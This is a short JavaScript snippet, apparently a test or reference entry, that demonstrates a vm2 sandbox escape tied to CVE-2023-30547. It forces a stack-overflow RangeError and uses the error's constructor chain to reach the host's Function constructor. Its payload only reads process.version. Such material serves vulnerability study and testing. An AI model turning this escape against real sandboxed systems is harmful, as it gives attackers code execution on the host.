// The RangeError of a full stack, raised in the deepest frame.
// Source: vm2, CVE-2023-30547 and earlier: errors of the host leak when its stack is full.
const deep = () => deep();
try { deep() } catch (error) { return error.constructor.constructor("return process.version")() }
